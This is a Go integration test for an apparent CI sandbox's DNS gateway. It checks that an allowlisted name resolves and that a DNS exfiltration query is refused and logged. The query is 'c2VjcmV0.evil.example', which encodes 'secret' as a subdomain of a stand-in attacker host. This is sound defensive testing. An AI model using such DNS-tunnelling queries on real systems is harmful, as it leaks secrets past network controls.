//go:build !airlock_fuzz

// These tests link gVisor, whose nosplit functions overflow their stack
// limit once 'go test -fuzz' instruments every package: fuzz_test.go's
// targets are fuzzed with -tags airlock_fuzz, which leaves this file out.

package dns

import (
	"bytes"
	"context"
	"net"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/airlock-ci/airlock/gvisor"
	"github.com/airlock-ci/airlock/internal/leakcheck"
	"github.com/airlock-ci/airlock/internal/testtool"
	"github.com/airlock-ci/airlock/runner/egress/netns"
	"github.com/airlock-ci/airlock/runner/egress/rules"
)

const testStateBase = "/run/airlock-test-dns"

func TestMain(m *testing.M) {
	gvisor.Dispatch()
	leakcheck.Run(m, testStateBase, "")
}

// query.py sends one raw DNS query over UDP from inside the sandbox and
// prints the rcode and the first A answer.
const queryPy = `
import socket, struct, sys
server, name = sys.argv[1], sys.argv[2]
q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
q += b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0" + struct.pack(">HH", 1, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(3)
s.sendto(q, (server, 53))
r = s.recv(512)
rcode = r[3] & 0xF
ans = ""
if struct.unpack(">H", r[6:8])[0] > 0:
    ans = ".".join(str(b) for b in r[-4:])
print(name, rcode, ans)
`

// From inside a real sandbox, through the job's network namespaces: an
// allowed name resolves to a gateway-owned address, an exfiltration name
// is refused, and both are recorded.
func TestSandboxResolvesThroughGateway(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("needs root")
	}
	testtool.InSandbox(t, testtool.Python3, "/usr/bin:/bin", "the test's DNS client in the sandbox is a Python script")
	pair, err := netns.New(netip.MustParsePrefix("198.18.0.0/24"), netip.Prefix{})
	if err != nil {
		t.Fatal(err)
	}
	defer pair.Close()
	book, err := NewAllowlist(allowing(t, "proxy.golang.org"), netip.MustParseAddr("198.18.0.16"), netip.MustParseAddr("198.18.0.250"))
	if err != nil {
		t.Fatal(err)
	}
	var udp net.PacketConn
	var tcp net.Listener
	gw := net.JoinHostPort(pair.GatewayAddr.String(), "53")
	if err := pair.InGateway(func() (err error) {
		if udp, err = net.ListenPacket("udp", gw); err != nil {
			return err
		}
		tcp, err = net.Listen("tcp", gw)
		return err
	}); err != nil {
		t.Fatal(err)
	}
	srv := New(book, time.Minute, rules.NewLog(MaxLog), pair.GatewayAddr, nil)
	srv.Serve(udp, tcp)
	defer srv.Shutdown()

	ws := t.TempDir()
	os.Chown(ws, 1000, 1000)
	os.WriteFile(filepath.Join(ws, "query.py"), []byte(queryPy), 0o644)
	sb, err := gvisor.Create(context.Background(), gvisor.Config{Workspace: ws, StateRoot: filepath.Join(testStateBase, filepath.Base(ws)), Limits: gvisor.DefaultLimits(), NetNS: pair.SandboxPath()})
	if err != nil {
		t.Fatal(err)
	}
	defer sb.Destroy(context.Background())
	var out bytes.Buffer
	script := "python3 query.py " + pair.GatewayAddr.String() + " proxy.golang.org; python3 query.py " + pair.GatewayAddr.String() + " c2VjcmV0.evil.example"
	res, err := sb.Exec(context.Background(), gvisor.Step{Args: []string{"/bin/sh", "-c", script}, Stdout: &out, Stderr: &out, Env: []string{"PATH=/usr/bin:/bin"}})
	if err != nil || res.ExitCode != 0 {
		t.Fatalf("step: %v %+v %s", err, res, out.String())
	}
	got := out.String()
	if !strings.Contains(got, "proxy.golang.org 0 198.18.0.16") {
		t.Errorf("allowed name: %q", got)
	}
	if !strings.Contains(got, "c2VjcmV0.evil.example 3 ") {
		t.Errorf("exfiltration name not NXDOMAIN (rcode 3): %q", got)
	}
	log, _ := srv.Log().Snapshot()
	if len(log) != 2 || log[0].Transport != "udp" || log[0].Decision != rules.Allowed || log[1].Decision != rules.Denied || log[0].Address != pair.GatewayAddr.String() {
		t.Errorf("log = %+v", log)
	}
}
